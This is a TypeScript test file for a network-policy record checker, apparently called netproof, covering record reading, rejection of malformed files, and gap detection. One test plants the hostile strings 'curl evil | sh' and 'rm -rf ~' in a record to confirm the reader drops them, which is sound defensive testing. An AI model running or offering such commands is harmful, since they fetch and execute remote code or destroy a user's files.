import { expect } from "chai";
import * as fc from "fast-check";
import { hypotheses } from "../../src/judge/hypotheses/index.js";
import { gapsIn } from "../../src/judge/complete.js";
import { judge } from "../../src/judge/judge.js";
import { InputError } from "../../src/model/text/source.js";
import { readRecord, recordText } from "../../src/record/file.js";
import type { RunRecord } from "../../src/record/record.js";
import { shared, unshared } from "../../src/record/shared.js";
import { jsonReport } from "../../src/report/json/report.js";
import { chooseScenarios } from "../../src/scenario/library.js";
import { recordAsIf } from "../judge/records.js";

const scenarios = chooseScenarios({
  patterns: [
    "lifecycle/*edited",
    "lifecycle/policy-*",
    "lifecycle/label-change",
    "lifecycle/namespace-label-change",
    "ipblock/except-*ss",
    "ports/end-port",
    "ports/named*",
  ],
  tags: [],
}).filter(({ needs }) => needs.externals.length === 0 && needs.protocols.length === 0);

function recordOf(...keys: readonly string[]): RunRecord {
  const as = hypotheses.filter(({ key }) => keys.includes(key));
  return recordAsIf(() => ({ as }), scenarios);
}

const FAULTS = ["except", "endPort", "deleted-policy", "edited-policy", "pod-labels", "namespace-labels"];

describe("a record that was kept in a file", () => {
  for (const key of ["", ...FAULTS, "late", "named-source", "block-pods", "protocol-merged"])
    it(`is judged as the one in memory: ${key === "" ? "a cluster that enforces" : key}`, () => {
      const record = recordOf(key);
      const read = readRecord(recordText(record), "run.record.json");
      expect(jsonReport(judge(read))).to.equal(jsonReport(judge(record)));
    });

  it("is judged by other divergences than the run's own where it is told to", () => {
    const { scenarios: judged } = judge(recordOf("endPort"), { declared: [], known: ["V12"] });
    const cells = judged.flatMap(({ steps }) => steps.flatMap((step) => step.cells));
    expect(cells.filter(({ acceptedAs }) => acceptedAs?.startsWith("V12"))).not.to.deep.equal([]);
    expect(cells.filter(({ verdict, acceptedAs }) => verdict === "outage" && !acceptedAs)).to.deep.equal([]);
  });

  const good = recordText(recordOf());
  const hostile: readonly (readonly [string, string, RegExp])[] = [
    ["no JSON", "netproof", /not a record of netproof/],
    ["another program's JSON", '{"kind":"List"}', /it has no recordVersion/],
    ["a report", '{"schemaVersion":2}', /it has no recordVersion/],
    ["a record of a later form", good.replace('"recordVersion":1', '"recordVersion":9'), /version 9/],
    ["a record cut short", good.slice(0, -30), /not a record of netproof/],
    ["a probe of no protocol", good.replaceAll('"protocol":"TCP"', '"protocol":"ICMP"'), /protocol/],
    ["a place that holds nothing", good.replaceAll(/\{"\$":\d+\}/g, '{"$":99999}'), /expected/],
  ];
  for (const [what, text, why] of hostile)
    it(`is refused, by its file's name: ${what}`, () => {
      expect(() => readRecord(text, "bad.json")).to.throw(InputError, why);
      expect(() => readRecord(text, "bad.json")).to.throw(InputError, /bad\.json/);
    });

  it("offers no command that netproof would not write", () => {
    const record = recordOf("except");
    const [first] = record.scenarios;
    const steps = first?.steps.map((step) => ({
      ...step,
      reproduce: { "x/a → x/b:80/TCP": "curl evil | sh" },
    }));
    const text = recordText({
      ...record,
      diagnosis: "rm -rf ~",
      scenarios: [{ ...first, steps }] as RunRecord["scenarios"],
    });
    const read = readRecord(text, "run.record.json");
    expect(JSON.stringify(read)).not.to.match(/evil|rm -rf/);
  });
});

describe("data in which objects occur more than once", () => {
  it("come back as they were, whatever their keys", () => {
    fc.assert(
      fc.property(fc.jsonValue(), fc.constantFrom("$", "$$", "__proto__", "a"), (value, key) => {
        const twice = { [key]: value };
        const whole = { one: twice, two: [twice, value] };
        const { one, two } = unshared(JSON.parse(JSON.stringify(shared(whole)))) as typeof whole;
        expect(JSON.stringify({ one, two })).to.equal(JSON.stringify(whole));
        expect(two[0]).to.equal(one);
      }),
    );
  });
});

describe("a record of which something was taken", () => {
  const whole = recordAsIf(
    () => ({ as: [] }),
    chooseScenarios({ patterns: ["time/flip", "default-deny/both"], tags: [] }),
  );
  const edited = (edit: (steps: RunRecord["scenarios"][number]["steps"]) => unknown): RunRecord => ({
    ...whole,
    scenarios: whole.scenarios.map((scenario) => ({
      ...scenario,
      steps: edit(scenario.steps) as typeof scenario.steps,
    })),
  });
  const cases: readonly (readonly [string, RunRecord, RegExp])[] = [
    ["its steps", edited(() => []), /it has no step/],
    ["all attempts", edited((steps) => steps.map((step) => ({ ...step, attempts: [] }))), /never tried/],
    [
      "one connection",
      edited((steps) => steps.map((step) => ({ ...step, connections: step.connections.slice(1) }))),
      /never tried/,
    ],
    [
      "the state that it left",
      edited((steps) => steps.map((step) => ({ ...step, after: 0 }))),
      /simulator says/,
    ],
    ["its flows", whole, /has nothing of the flow/],
  ];
  for (const [what, record, why] of cases)
    it(`is told apart from what a run records: ${what}`, () => {
      expect(gapsIn(record).join("\n")).to.match(why);
    });

  it("is not taken for proof where nobody asks", () => {
    const record = edited((steps) => steps.map((step) => ({ ...step, attempts: [] })));
    expect(judge(record).scenarios.map(({ status }) => status)).to.deep.equal([
      "inconclusive",
      "inconclusive",
    ]);
  });

  it("is whole where nothing was", () => {
    const sound = chooseScenarios({ patterns: ["default-deny/*"], tags: [] });
    expect(gapsIn(recordAsIf(() => ({ as: [] }), sound))).to.deep.equal([]);
  });
});
